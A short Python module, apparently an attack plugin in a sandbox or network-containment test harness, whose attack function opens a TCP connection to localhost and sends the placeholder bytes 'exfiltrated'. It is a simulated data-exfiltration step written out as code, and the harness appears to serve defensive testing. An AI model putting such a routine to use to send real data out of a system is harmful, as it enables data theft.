"""Send what was found over TCP."""

import socket

FAMILY = "network"


def attack(world):
    with socket.create_connection(("127.0.0.1", world["tcp"]), timeout=1) as out:
        out.sendall(b"exfiltrated")
    return "sent"
